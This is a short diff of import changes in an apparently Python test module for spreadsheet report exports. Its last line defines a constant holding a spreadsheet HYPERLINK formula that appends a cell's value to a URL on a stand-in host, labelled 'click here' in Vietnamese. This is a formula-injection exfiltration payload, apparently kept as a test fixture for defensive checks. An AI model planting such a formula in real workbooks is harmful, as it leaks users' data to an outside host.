@@ -30,10 +30,10 @@ from library.xlsx import (
     build_sheets,
     build_workbook,
 )
-from reports import periodic
 from reports.models import Indicator
+from reports.services import periodic
+from tasks.services.weekly import weekly_summary_run
 from tasks.tests.factories import assign
-from tasks.weekly import weekly_summary_run
 from units.tests.support import Q3, file_report
 
 HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"Bấm vào đây")'
